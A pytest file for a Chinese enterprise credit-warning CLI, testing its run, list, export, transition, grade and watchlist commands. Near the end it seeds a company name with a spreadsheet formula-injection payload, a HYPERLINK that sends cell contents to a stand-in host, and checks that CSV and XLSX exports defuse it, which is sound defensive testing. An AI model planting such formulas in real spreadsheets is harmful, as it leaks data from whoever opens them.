"""``credlink warn`` as a user drives it: run, list, export the 通报 list, move, grade.

The store (a SQLite file in the work directory) is seeded with the county of
tests/risk/test_warnings.py: 甲公司 U[0] gets a 同一领域频繁违法 warning (市场监管局),
乙公司 U[1] a 多个领域多次违法 warning (税务局 and 生态环境局).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from rich.console import Console, Group
from typer.testing import CliRunner

from risk.store import migrate, open_engine
from risk.warnings import NOTICE_COLUMNS
from serving.cli.warn import summary_tables, warn_app
from serving.settings import Settings
from tests.risk.test_rules import INSIDE, U, ent, penalties, seed_store

runner = CliRunner()


def _seeded(enterprises: list[dict[str, Any]], records: list[dict[str, Any]]) -> Settings:
    """The environment's store (``env``), migrated and seeded."""
    settings = Settings()
    engine = open_engine(settings.store_url)
    migrate(engine)
    seed_store(engine, enterprises, records)
    engine.dispose()
    return settings


@pytest.fixture
def store(env: Path) -> Settings:
    return _seeded(
        [ent(U[0], "甲公司"), ent(U[1], "乙公司")],
        [
            *penalties(U[0], *INSIDE),
            *penalties(U[1], "2025-01-01", "2025-02-01", domain="taxation"),
            *penalties(U[1], "2025-03-01", domain="ecology_environment"),
        ],
    )


def _run(*args: str) -> tuple[int, str]:
    result = runner.invoke(warn_app, list(args))
    return result.exit_code, result.output


def test_run_prints_counts_and_rerun_changes_nothing(store: Settings) -> None:
    code, output = _run("run", "--as-of", "2026-06-30")
    assert code == 0, output
    for text in (
        "同一领域频繁违法",
        "多个领域多次违法",
        "市场监管局",
        "税务局",
        "橙色",
        "created 2",
    ):
        assert text in output
    code, output = _run("run", "--as-of", "2026-06-30", "--json")
    assert code == 0, output
    summary = json.loads(output)
    assert (summary["created"], summary["unchanged"]) == (0, 2)
    assert summary["by_regulator"] == {"市场监管局": 1, "税务局": 1, "生态环境局": 1}
    code, output = _run("run", "--as-of", "30/06/2026")
    assert code == 2 and "as-of must be a date YYYY-MM-DD; got '30/06/2026'" in output


def test_list_filters_and_json(store: Settings) -> None:
    _run("run", "--as-of", "2026-06-30")
    code, output = _run("list", "--regulator", "税务局", "--json")
    assert code == 0, output
    page = json.loads(output)
    assert page["total"] == 1 and page["items"][0]["uscc"] == U[1]
    assert page["items"][0]["rule_label"] == "多个领域多次违法"
    code, output = _run("list", "--level", "orange", "--status", "new", "--since", "2026-01-01")
    assert code == 0 and "甲公司" in output and "乙公司" in output
    code, output = _run("list", "--level", "purple")
    assert code == 2 and "level must be one of red, orange, yellow; got 'purple'" in output
    code, output = _run("list", "--regulator", "海关")
    assert code == 2 and "regulator must be one of" in output


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_writes_the_notice_with_chinese_headers(
    store: Settings, tmp_path: Path, suffix: str
) -> None:
    _run("run", "--as-of", "2026-06-30")
    path = tmp_path / f"税务局通报{suffix}"
    code, output = _run("export", "--regulator", "税务局", "--out", str(path))
    assert code == 0, output
    if suffix == ".csv":
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    else:
        frame = pd.read_excel(path, dtype=str)
    assert list(frame.columns) == list(NOTICE_COLUMNS)
    assert frame["统一社会信用代码"].tolist() == [U[1]]  # only 税务局's warnings
    assert frame["企业名称"].tolist() == ["乙公司"]
    assert frame["主管部门"].iloc[0] == "生态环境局、税务局"
    # The domain code names the same regulator.
    by_code = tmp_path / f"taxation{suffix}"
    assert _run("export", "--regulator", "taxation", "--out", str(by_code))[0] == 0


def test_export_usage_errors(store: Settings, tmp_path: Path) -> None:
    code, output = _run("export", "--regulator", "海关", "--out", str(tmp_path / "x.csv"))
    assert code == 2 and "regulator must be one of" in output and "'海关'" in output
    assert not (tmp_path / "x.csv").exists()
    code, output = _run("export", "--regulator", "税务局", "--out", str(tmp_path / "x.pdf"))
    assert code == 2 and "out must end in .csv or .xlsx" in output


def test_transition_and_show(store: Settings) -> None:
    _run("run", "--as-of", "2026-06-30")
    warning_id = json.loads(_run("list", "--regulator", "市场监管局", "--json")[1])["items"][0][
        "id"
    ]
    code, output = _run(
        "transition", str(warning_id), "dispatched", "--actor", "信用办", "--note", "已通报"
    )
    assert code == 0 and "dispatched (已通报)" in output
    code, output = _run("transition", str(warning_id), "closed", "--actor", "信用办", "--note", "x")
    assert code == 1 and "after dispatched must be one of acknowledged; got 'closed'" in output
    code, output = _run("transition", "999", "dispatched", "--actor", "信用办")
    assert code == 1 and "warning_id must be a stored warning; got 999" in output
    code, output = _run("transition", str(warning_id), "done", "--actor", "信用办")
    assert code == 2 and "status must be one of new, dispatched, acknowledged, closed" in output
    code, output = _run("show", str(warning_id), "--json")
    shown = json.loads(output)
    assert [e["to_status"] for e in shown["events"]] == ["new", "dispatched"]
    code, output = _run("show", str(warning_id))
    assert code == 0 and "证据(决定书文号)" in output and "history" in output
    assert _run("show", "999")[0] == 1


def test_grades_and_watchlist(store: Settings) -> None:
    _run("run", "--as-of", "2026-06-30")
    code, output = _run("grades", "--as-of", "2026-06-30", "--json")
    assert code == 0, output
    grades = {g["grade"]: g for g in json.loads(output)["grades"]}
    assert grades["C"]["enterprises"] == 2  # both have an open orange warning
    assert grades["C"]["inspection_ratio"] == 0.4 and grades["C"]["band"] == "21–60%"
    code, output = _run("grades", "--as-of", "2026-06-30")
    assert code == 0 and "信用风险较高" in output and "双随机" in output
    code, output = _run("watchlist", "--json")
    assert sorted(row["uscc"] for row in json.loads(output)) == sorted(U[:2])
    assert "重点关注对象名单" in _run("watchlist")[1]


def test_summary_tables_render_counts_by_rule_and_regulator(store: Settings) -> None:
    from risk.store import open_engine
    from risk.warnings import run_warnings

    engine = open_engine(store.store_url)
    summary = run_warnings(engine, date(2026, 6, 30), store.risk_config())
    engine.dispose()
    console = Console(width=160, record=True)
    console.print(Group(*summary_tables(summary)))
    text = console.export_text()
    assert "同一领域频繁违法" in text and "税务局" in text and "created 2" in text


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"乙公司")'


@pytest.fixture
def hostile_store(env: Path) -> Settings:
    """乙公司 registered under a formula (as a hostile file could have it ingested)."""
    settings = _seeded(
        [ent(U[1], FORMULA_NAME)],
        [
            *penalties(U[1], "2025-01-01", "2025-02-01", domain="taxation"),
            *penalties(U[1], "2025-03-01", domain="ecology_environment"),
        ],
    )
    assert _run("run", "--as-of", "2026-06-30")[0] == 0
    return settings


def test_xlsx_export_never_holds_a_formula(hostile_store: Settings, tmp_path: Path) -> None:
    path = tmp_path / "通报.xlsx"
    code, output = _run("export", "--regulator", "税务局", "--out", str(path))
    assert code == 0, output
    sheet = openpyxl.load_workbook(path)["预警通报"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in sheet[1]] == list(NOTICE_COLUMNS)
    name = sheet.cell(row=2, column=1)
    assert name.value == "'" + FORMULA_NAME and name.data_type == "s"
    assert sheet.cell(row=2, column=2).value == U[1]


def test_csv_export_quotes_the_formula(hostile_store: Settings, tmp_path: Path) -> None:
    path = tmp_path / "通报.csv"
    code, output = _run("export", "--regulator", "税务局", "--out", str(path))
    assert code == 0, output
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    assert rows[0] == list(NOTICE_COLUMNS)
    assert rows[1][0] == "'" + FORMULA_NAME and rows[1][1] == U[1]
